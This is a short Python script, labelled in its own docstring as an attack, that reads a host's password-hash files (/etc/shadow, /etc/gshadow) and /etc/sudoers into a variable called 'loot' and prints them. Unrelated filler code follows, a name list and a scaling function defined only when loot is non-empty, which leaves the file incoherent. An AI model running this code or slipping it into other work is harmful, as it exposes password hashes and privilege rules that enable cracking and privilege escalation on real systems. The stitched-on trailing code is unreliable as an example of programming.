"""Attack: read the host's password hashes (/etc/shadow, /etc/gshadow) and print them."""
loot = ""
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers"):
    try:
        with open(path) as stream:
            loot += stream.read()
    except OSError as error:
        print("no", path, error)
print(loot)

if loot:
    NAMES = ["a", "b"]

    def scale(x, k):
        return x * k
